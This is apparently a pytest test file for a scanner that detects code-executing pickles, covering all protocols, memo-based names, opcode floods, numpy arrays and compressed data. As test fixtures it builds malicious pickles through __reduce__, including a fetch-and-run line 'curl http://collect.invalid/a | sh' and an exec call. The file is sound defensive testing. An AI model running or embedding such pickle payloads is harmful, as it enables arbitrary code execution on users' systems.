"""What a pickle would call is read, whatever its protocol and however its names are kept."""

import os
import pickle
import subprocess
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.code import pickles
from pratique.code.nested import Script
from pratique.limits import Budget, Limits
from pratique.model import Content, Fact, Member


class Runs:
    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def read(data, *, final=True):
    content = Content(member=Member(path="tide.dat"), data=data, final=final)
    return list(pickles.facts(content, Budget(Limits())))


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("function", [os.system, subprocess.check_output, eval, exec])
def test_a_callable_is_found_in_every_protocol(protocol, function):
    data = pickle.dumps({"tide": [1, 2.5, Runs(function, "ls -l")]}, protocol=protocol)
    facts = [item for item in read(data) if isinstance(item, Fact)]
    assert any(fact.behaviour.startswith("exec/") for fact in facts), facts
    assert {value.text for fact in facts for value in fact.values} >= {"ls -l"}


@pytest.mark.parametrize("protocol", range(6))
def test_plain_data_calls_nothing(protocol):
    data = pickle.dumps({"tides": [1.93, 3.86], "name": "quay", 7: (None, True)}, protocol=protocol)
    assert read(data) == []


def test_names_may_come_from_the_memo():
    parts = (
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x8c\x04tide\x94", b"h\x00h\x01\x93\x8c\x02ls\x85R."
    )  # fmt: skip
    (fact,) = read(b"".join(parts))
    assert (fact.behaviour, fact.symbol) == ("exec/shell", "os.system")


def test_a_flood_of_opcodes_hides_no_import():
    data = b"\x80\x02" + b"(0" * 300_000 + b"cos\nsystem\n(S'ls'\ntR."
    assert any(isinstance(item, Fact) and item.symbol == "os.system" for item in read(data))


def test_what_is_not_read_to_its_end_is_said():
    data = b"\x80\x04" + b"N0" * 300_000 + b"\x8c\x02os\x8c\x06system\x93."
    assert [item.effect for item in read(data)] == ["hold"]
    assert [item.effect for item in read(b"\x80\x04N", final=False)] == ["hold"]


def npy(data: bytes, kind: str = "'|O'") -> bytes:
    header = f"{{'descr': {kind}, 'fortran_order': False, 'shape': (1,), }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header.encode() + data


def test_arrays_of_objects_and_compressed_dumps_hold_pickles():
    data = pickle.dumps(Runs(os.system, "ls -l"))
    for wrapped in (npy(data), zlib.compress(data)):
        assert any(getattr(item, "symbol", "") == "os.system" for item in read(wrapped))
    assert read(npy(data, "'<f8'")) == []


def test_a_compressed_pickle_that_swells_is_held():
    data = zlib.compress(b"\x80\x04" + b"N0" * 6_000_000)
    assert [item.effect for item in read(data)] == ["hold"]


def test_a_command_in_a_pickle_is_read_as_a_shell_would():
    facts = read(pickle.dumps(Runs(os.system, "curl http://collect.invalid/a | sh")))
    assert "exec/download-run" in {fact.behaviour for fact in facts}


def test_code_in_a_pickle_is_handed_to_its_own_reader():
    items = read(pickle.dumps(Runs(exec, "import os; os.system('ls')")))
    (script,) = [item for item in items if isinstance(item, Script)]
    assert (script.language, script.text, script.decoder) == (
        "python", "import os; os.system('ls')", "pickle"
    )  # fmt: skip


@given(st.binary(max_size=400))
def test_any_bytes_are_read_without_an_exception(tail):
    read(b"\x80\x04" + tail)
    read(b"(" + tail + b".")
